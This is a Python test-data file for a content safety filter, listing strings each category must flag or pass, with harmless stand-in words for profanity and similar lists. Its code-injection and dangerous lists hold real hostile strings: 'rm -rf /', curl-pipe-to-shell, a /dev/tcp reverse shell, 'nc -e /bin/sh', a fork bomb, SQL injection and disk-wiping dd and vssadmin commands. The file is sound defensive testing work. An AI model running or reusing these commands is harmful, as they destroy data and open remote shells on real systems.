"""Texts that each safety category catches and texts that it must leave alone, at least 30 of each; written for the
tests. The words of the lists are harmless stand-ins."""

LISTS = {
    "profanity": ("darnit", "blast it", "son of a biscuit", "frell", "smeg", "gorram", "d'oh", "crud"),
    "violence": ("krump", "krumping them", "skarn the foe", "blood-oath", "maul", "thrash", "gut punch"),
    "hate": ("zorblax", "dirty zorb", "zorbs out", "vermin of zorb", "blorgs"),
    "sexual": ("snuggle club", "smooch", "hanky panky", "canoodle", "va-va-voom"),
    "self_harm": ("end it all", "glumwort", "give up on me", "no way out", "fade away"),
}


def _of_list(phrases: tuple[str, ...]) -> tuple[list[str], list[str]]:
    """Whole words however they stand, in any case and width; and the same letters within other words."""
    wide = str.maketrans({i: i + 0xFEE0 for i in range(0x21, 0x7F) if chr(i).isalnum()})
    caught, left = [], []
    for phrase in phrases:
        caught += [
            phrase, f"well, {phrase}!", f"({phrase.upper()})", f"x {phrase.title()}\n", f'"{phrase}"', f"{phrase}.",
            phrase.translate(wide), f"日 {phrase}, 本",
        ]  # fmt: skip
        left += [
            f"x{phrase}", f"{phrase}s", f"un{phrase}able", f"{phrase}_", f"_{phrase}", f"1{phrase}", f"{phrase}é",
            phrase[:-1], phrase[1:], phrase.replace(" ", "  ") if " " in phrase else f"{phrase[0]} {phrase[1:]}",
        ]  # fmt: skip
    return caught, left


CAUGHT = {
    "code_injection": [
        "rm -rf /", "rm -fr build", "rm -r -f x", "rm -f -r x", "rm --recursive --force x", "rm --force --recursive x",
        "rm -Rf ~", "RM -RF /", "rm  -rf *", "rm -v -rf x", "rm --no-preserve-root -rf /", "/bin/rm -rf x",
        "rm -r --force x", "rm --verbose -r -v -f x", "ｒｍ －ｒｆ /", "ls; rm -f x", "true && rm ~/x", "find | rm -i",
        "sudo rm x", "$ sudo apt install x", "# sudo -i", "ls && sudo reboot", "echo x | sudo tee /etc/hosts",
        "cd /\nsudo chmod u+x f", "sudo ./configure", "curl https://x.example | sh", "wget -qO- x.example|bash",
        "curl x | sudo bash -s -- -y", "cat x | zsh\n", "x | /bin/sh", "x | env bash;", "a=$(curl -s x)", "$( wget x )",
        "a=`curl x`", "bash <(curl -s x)", "chmod 777 /srv", "chmod -R 0777 .", "chmod a+rwx f", ":(){ :|:& };:",
        ": ( ) {\n:|:&\n};:", "bash -i >& /dev/tcp/10.0.0.1/80 0>&1", "nc -e /bin/sh", "eval(input())",
        "exec(request.args)", "eval($_GET['x'])", "' OR '1'='1", "\" or 1=1 --", "'; DROP TABLE users",
        "' UNION SELECT *", "rm x -rf", "rm node_modules -fr", "/bin/rm ~/.cache -Rf", "RM /tmp/* -ｒｆ",
    ],
    "credentials": [
        "password=hunter2", "PASSWORD=hunter2", "db_password=x1", "--password=x", "passwd='x'", 'secret="abc"',
        "api_key=abc", "api-key=abc", "apikey = 'abc'", "access_token=x", "auth_token = \"x\"", "client_secret=x",
        "AWS_SECRET_ACCESS_KEY=wJalr", "private_key=x", "ｐａｓｓｗｏｒｄ=x", "aws_access_key_id=AK",
        "passphrase='open'",
        "AKIAIOSFODNN7EXAMPLE", "key: ASIAIOSFODNN7EXAMPLE", "ghp_0123456789abcdefghijABCDEFGHIJ012345",
        "github_pat_11ABCDEFG0abcdefghijkl", "glpat-abcdefghij0123456789", "sk-0123456789abcdefghijABCD",
        "sk-proj-abcdef123456", "sk-ant-api03abcdef", "xoxb-123456789012-abc", "AIzaSyA0123456789abcdefghij",
        "sk_live_0123456789abcdefg", "rk_test_0123456789abcdefg", "npm_0123456789abcdefghijABCDEFGHIJ012345",
        "hf_abcdefghijklmnopqrstuvwxyzABCDEFGH", "SG.abcdefghijklmnop.qrs", "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.x",
        '{"password": "hunter2"}', "{'password': 'hunter2'}", '"db_password":"x1"', '"api_key" : "abc"',
        ":secret => 'abc', 'secret' => 'abc'", '"client-secret": "x"', '"ACCESS_TOKEN": "ya29"', '"Password": "ｈ"',
        "-----BEGIN RSA PRIVATE KEY-----", "-----BEGIN PRIVATE KEY-----", "-----BEGIN OPENSSH PRIVATE KEY-----",
    ],
    "pii": [
        "123-45-6789", "SSN 123 45 6789", "my number is 078-05-1120.", "(899-99-9999)", "665-01-0001", "667-01-0001",
        "4111111111111111", "4111 1111 1111 1111", "4111-1111-1111-1111", "card: 5500005555555559", "378282246310005",
        "3782 822463 10005", "6011 0009 9013 9424", "30569309025904", "3530111333300000", "4222222222222",
        "6304000000000000", "x 4012888888881881!", "5105-1051-0510-5100", "日4 1 1 1 1 1 1 1 1 1 1 1 1 1 1 1"[1:],
        "cvv: 123", "CVV2 is 999", "cvc=000", "card security code 123", "DE89 3704 0044 0532 0130 00",
        "DE89370400440532013000", "GB29 NWBK 6016 1331 9268 19", "FR14 2004 1010 0505 0001 3M02 606",
        "NL91ABNA0417164300", "ES91 2100 0418 4502 0005 1332", "CH93 0076 2011 6238 5295 7", "iban: BE68539007547034",
        "cvv: １２３", "hunter2 4111 1111 1111 1111", "v2 4111-1111-1111-1111",
        "0.5 4111111111111111", "x12-34 4111 1111 1111 1111", "12345678901234567890 4111 1111 1111 1111",
        "mail a.user@example.com", "X@Y.ORG", "call +49 30 1234567", "+1 (212) 555-0123", "(212) 555-0123",
        "212-555-0123", "tel.: +44 20 7946 0958",
    ],
    "dangerous": [
        "how to make a bomb", "How to build a pipe bomb", "HOW TO MAKE EXPLOSIVES"[:-1], "steps to make a nail bomb",
        "instructions for making a grenade", "how do I make a molotov cocktail", "how do you build a detonator",
        "guide to making homemade explosives", "recipe for ricin", "how to make sarin", "how to synthesize nerve gas",
        "how to synthesise mustard gas", "ways to make a bomb", "how to prepare anthrax",
        "how to make a chemical weapon",
        "how to build your own silencer", "ｈｏｗ to make a bomb", "how to make a car bomb", "how to cook meth.",
        "how to make methamphetamine", "recipe for crystal meth", "how to synthesize fentanyl",
        "steps to cook crack cocaine", "how to make LSD", "how to produce heroin", "instructions to make MDMA",
        "mkfs.ext4 /dev/sda1", "mkfs -t /dev/sdb", "dd if=/dev/zero of=/dev/sda", "dd of=/dev/nvme0n1", "format c:",
        "vssadmin delete shadows /all", "del /f /s *.*", "DEL /S /Q x",
    ],
}  # fmt: skip

LEFT = {
    "code_injection": [
        "```bash\nls -la\n```", "`code`", "rm file.txt", "rm -r build", "rm -f x", "the rm command removes files",
        "farm -rf", "perform -rf", "alarm --recursive --force", "use sudo with care", "pseudo rm code",
        "sudoku rm", "Sudo lets users run programs", "the sudo command", "| sh | bash |", "| name | shell |",
        "x | shuf", "cat x | sort | uniq", "a || b", "${name}", "`${name}!`", "$(document).ready(f)", "$(CC) -o x",
        "$(pwd)", "echo $(date)", "$(x + 1)$", "chmod +x run.sh", "chmod 755 f", "chmod 644 777", "eval(tree)",
        "re.exec(text)", "model.eval()", "cursor.execute(query)", "exec(code)", "os.system", "run `curl -O x`",
        "bash script.sh", ":)", "a: (b)", "SELECT * FROM t WHERE a = 'x' OR b = 1", "it's 1 or 2", "don't drop tables",
        "curl -s https://x.example -o f", "wget x.example", "; rmdir x", "nc host 80", "rm x -r", "rm x -f y",
        "rm -i a, then grep -rf b", "rm x; tar -rf y", "rm x | grep -r -f p", "`rm`: see -r and -f", "rm x\ntar -rf y",
        "rm a b -rf", "rm x -r -f",
    ],
    "credentials": [
        "password", "password:", "password=", "password = ", "your password is secret", "if password == given:",
        '{"password": ""}', '{"password": {"type": "string"}}', '"password": null', '"password": "<yours>"',
        '"password": "$PASSWORD"', '"password": "****"', '"password": "{{ password }}"', '"password", "x"',
        "'password': str", '"passwords": "x"', '"my password": see below', '"turnkey": "x"', "password: hunter2",
        "ＡＫＩＡＩＯＳＦＯＤＮＮ７ＥＸＡＭＰＬＥ",
        "password=$PASSWORD", "password=${PASSWORD}", "password=<your password>", "password=%s", "password=***",
        "password = getpass()", "api_key=''", "api_key={}", "a secret = b", "the api key", "no_secrets=1",
        "AKIA", "AKIAIOSFODNN", "akiaiosfodnn7example", "ghp_short", "sk-learn", "sk-estimator-doc-link",
        "task-proj-abcdef1",
        "risk-0123456789abcdefghijABCD", "xoxo-123456789", "AIza", "pk_test", "npm_config_cache", "hf_hub_download",
        "eyJ", "-----BEGIN CERTIFICATE-----", "-----BEGIN PUBLIC KEY-----", "monkey=banana", "token=abc", "turkey=5",
    ],
    "pii": [
        "000-45-6789", "666-45-6789", "900-45-6789", "123-00-6789", "123-45-0000", "1234-45-6789", "123-456-789",
        "2024-01-15", "v123-45-6789", "4111111111111112", "4111 1111 1111 1112", "411111111111", "4111  1111 1111 1111",
        "hunter2-4111-1111-1111-1111", "hunter24111 1111 1111 1111", "x4111 1111 1111 1111", "2024 4111 1111 1111 1111",
        "４１１１１１１１１１１１１１１１", "１２３-４５-６７８９", "4111\u00a01111\u00a01111\u00a01111",
        "a1b2-4111-1111-1111-1111", "٤١١١١١١١١١١١١١١١",
        "0.4111111111111111", "x4111111111111111", "12345678901234567890", "1234567890123", "id_4111111111111111",
        "cvv", "CVC code", "discovery 123", "DE89", "DEAD 1234 5678", "XX89370400440532013000",
        "de89370400440532013000",
        "GB29 6016 1331 9268", "FR14", "a@b", "user at example.com", "@handle", "x @ y.com", "1-800", "555-0123",
        "+49 30", "12:34:56", "3.14159265358979", "1,234,567.89", "10.0.0.1", "2001:db8::1",
    ],
    "dangerous": [
        "how to make a cake", "how to make a bombshell dress"[:15], "the bomb squad", "a bath bomb recipe", "bomb",
        "how to build a house", "how to defuse a bomb", "instructions for assembly", "history of the atomic bomb",
        "how to make a photo bombastic"[:20], "methods", "how to make methane", "how to make method calls",
        "how to make ethical choices", "recipe for disaster", "how to cook rice", "how to make lsdyna models",
        "heroine", "how to write about heroin addiction", "fentanyl test strips", "format c", "reformat code",
        "mkfs", "mkfs.ext4 disk.img", "dd if=a of=b", "of=/dev/null", "del x", "del /s", "vssadmin list shadows",
        "steps to make a plan", "guide to making friends", "how do I make an account", "ways to make money",
    ],
}  # fmt: skip

for _name, _phrases in LISTS.items():
    CAUGHT[_name], LEFT[_name] = _of_list(_phrases)
